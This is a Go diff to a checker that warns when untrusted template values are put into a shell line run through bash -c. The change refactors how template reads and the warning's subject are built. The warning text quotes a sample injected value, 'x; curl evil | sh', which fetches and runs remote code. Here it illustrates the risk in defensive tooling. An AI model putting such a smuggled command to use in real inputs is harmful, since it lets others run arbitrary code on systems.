@@ -76,10 +76,13 @@ func (c *checker) shellScalar(e *story.Effect, site effSite, mode, field, src st
 		}
 		said[r.text] = true
 		line, col := lineCol(src, r.off)
-		name := envName(r.text)
+		name, subject := envName(r.text), r.text
+		if r.root == "world" {
+			subject = "world." + r.key
+		}
 		c.rep.Warnf(c.src.valuePos(e.WithPos(strings.TrimSuffix(field, ":")), src, line, col), ruleShellInjection,
 			"%s: host.run runs its line through bash -c (%s), and %s in %s puts %s into it: %s is %s, and a value like `x; curl evil | sh` runs as a command; pass it through env: (env: {%s: \"{{ %s }}\"}, and \"$%s\" double-quoted in cmd:) or run in argv mode (args: [...] without shell: true)",
-			site.String(), mode, r.tag, field, r.text, r.text, what, name, r.text, name)
+			site.String(), mode, r.tag, field, r.text, subject, what, name, r.text, name)
 	}
 }
 
@@ -288,7 +291,7 @@ type tplRead struct {
 	off  int    // byte offset of the root's name in the scalar
 	text string // the read as written: slots.text, world.title, inbox
 	root string // slots, event, inbox, result or world
-	key  string // the world key (root world)
+	key  string // the first member (for root world, the key)
 	tag  string // the tag holding it, shortened for messages
 }
 
@@ -400,21 +403,17 @@ func innerReads(out []tplRead, inner string, base int, tag string) []tplRead {
 		for end < len(inner) && identByte(inner[end]) {
 			end++
 		}
-		word := inner[k:end]
-		member, _ := memberAfter(inner[end:])
-		switch {
-		case word == "world" && member != "":
-			out = append(out, tplRead{off: base + k, text: "world." + member, root: word, key: member, tag: tag})
-		case untrustedRoots[word] != "":
-			text := word
-			for at := end; ; {
-				m, n := memberAfter(inner[at:])
-				if m == "" {
-					break
-				}
-				text, at = text+"."+m, at+n
+		word, text := inner[k:end], inner[k:end]
+		key, _ := memberAfter(inner[end:])
+		for at := end; ; {
+			m, n := memberAfter(inner[at:])
+			if m == "" {
+				break
 			}
-			out = append(out, tplRead{off: base + k, text: text, root: word, tag: tag})
+			text, at = text+"."+m, at+n
+		}
+		if word == "world" && key != "" || untrustedRoots[word] != "" {
+			out = append(out, tplRead{off: base + k, text: text, root: word, key: key, tag: tag})
 		}
 		k = end
 	}
